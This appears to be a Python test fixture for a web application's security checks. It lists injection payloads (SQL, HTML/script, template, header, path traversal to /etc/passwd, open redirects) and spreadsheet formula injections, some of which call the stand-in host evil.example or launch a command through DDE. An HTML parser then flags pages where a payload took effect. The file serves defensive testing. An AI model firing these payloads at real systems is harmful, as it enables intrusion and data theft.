"""What attackers type. Each payload leaves a mark that nothing of ours leaves, where it is not merely kept as text."""

from __future__ import annotations

from html.parser import HTMLParser
from urllib.parse import urlsplit

PRODUCT = 71931 * 71933  # a template that computes shows this number
OWNED = "hostile.owned"  # a setting of the session that an injected statement would leave

SQL = (
    f"' || set_config('{OWNED}','1',false) || '",
    f"1; select set_config('{OWNED}','1',false); --",
    f"x') union select set_config('{OWNED}','1',false) --",
    f"\\'; do $$ begin perform set_config('{OWNED}','1',false); end $$; --",
    "%' or '1'='1",
    "\\",
    "$1",
    "%s %(a)s {0}",
)
MARKUP = (
    "<hostile-tag>",
    '"><hostile-tag onhostile=1>',
    "'><hostile-tag>",
    "</title></script></style></textarea><hostile-tag>",
    '" onhostile="1',
    "' onhostile='1",
    " onhostile=1 ",
    "<script>hostile()</script>",
    "<svg/onhostile=1>",
    "<!--<hostile-tag>-->",
    "javascript:hostile()",
    "&#60;hostile-tag&#62;",
    "＜hostile-tag＞",
)
TEMPLATE = (
    "{{71931*71933}}",
    "${71931*71933}",
    "#{71931*71933}",
    "<%= 71931*71933 %>",
    "{% debug %}{% load hostile %}{{ settings.SECRET_KEY }}",
    "#panic(71931*71933)",
    "#(71931*71933)",
    "__import__('os').system('x')",
)
HEADER = (
    "a\r\nX-Hostile: 1",
    "a\nSet-Cookie: hostile=1",
    "a%0d%0aX-Hostile:%201",
    "a\u2028X-Hostile: 1",
    "嘊嘍X-Hostile: 1",
)
PATH = (
    "../../../../etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd",
    "file:///etc/passwd",
    "C:\\boot.ini",
    "....//....//etc/passwd",
)
REDIRECT = (
    "https://evil.example/",
    "//evil.example/",
    "/\\evil.example",
    "\\\\evil.example",
    "https:evil.example",
    "/%09/evil.example",
    "http://localhost@evil.example/",
    "\x01https://evil.example",
    "data:text/html,<hostile-tag>",
    "javascript:hostile()",
)
FORMULA = (
    "=1+1",
    "=cmd|'/C calc'!A0",
    "@SUM(1+1)",
    "+1+1",
    "-1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1+1)",
    "　=1+1",
    "'=1+1",
    '"=1+1"',
    ";=1+1",
    ",=1+1",
    '=HYPERLINK("http://evil.example","x")',
    '=WEBSERVICE("http://evil.example")',
    '=DDE("cmd";"/C calc";"x")',
    "%0A=1+1",
    "\0=1+1",
    "|cmd",
    "−1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "{=1+1}",
    '=IMPORTXML("http://evil.example","//a")',
    "0=1+1",
)
UNFIT = ("山田\0太郎", "\x1b[2J", "a\u202egpj.exe", "\x9b31m")
JAPANESE = ("髙﨑", "葛\U000e0100城", "か\u3099", "ﾀｶﾊｼ", "\ue000外字", "𠮷", "ｶﾞ", "①㍻㈱", "～−‖", "👨‍👩‍👧")
NUMBERS = ("9" * 30, "-1", "0", "1e9", "NaN", "٣", "1_000", "0x10", "²", "９" * 5, "1" * 5000)
DAYS = (
    "9999-12-31",
    "0001-01-01",
    "2026-02-30",
    "R99.1.1",
    "-1-1-1",
    "2026-01-01T00:00",
    "明治元年1月1日",
    "10000-01-01",
)
LONG_TEXT = "長" * 1_000_000

# Everything at once: one request for many questions.
COCKTAIL = "".join((*SQL[:4], *MARKUP, *TEMPLATE[:6]))
SHORT = ("'\"><hostile-tag onhostile=1>{{71931*71933}}", f"';select set_config('{OWNED}','1',false)--")


class Reader(HTMLParser):
    """A page as a browser reads it; what a payload did to it."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.wrong: list[str] = []
        self.links: list[str] = []
        self.forms: list[dict[str, object]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Tags and attributes of an attacker; inline script and style, which the policy forbids."""
        given = {name: value or "" for name, value in attrs}
        if tag == "hostile-tag" or any(name.startswith("on") for name in given):
            self.wrong.append(f"<{tag} {given}>")
        if tag in ("script", "style") and "src" not in given and given.get("type", "") != "application/json":
            self.wrong.append(f"inline <{tag}>")
        if "style" in given:
            self.wrong.append(f"inline style on <{tag}>")
        for name in ("href", "src", "action", "formaction", "hx-get", "hx-post"):
            self._address(given.get(name, ""), tag)
        if tag == "a" and given.get("href", "").startswith("/"):
            self.links.append(given["href"].split("#")[0])
        if tag == "form":
            self.forms.append({"method": given.get("method", "get"), "action": given.get("action", ""), "fields": {}})
        elif tag in ("input", "select", "textarea", "button") and self.forms and "name" in given:
            self.forms[-1]["fields"].setdefault(given["name"], (given.get("type", tag), given.get("value", "")))

    def _address(self, address: str, tag: str) -> None:
        plain = "".join(address.split()).lower()
        if (
            plain.startswith(("javascript:", "vbscript:", "data:text"))
            or (urlsplit(plain).hostname or "") == "evil.example"
        ):
            self.wrong.append(f"<{tag}> leads to {address[:80]}")
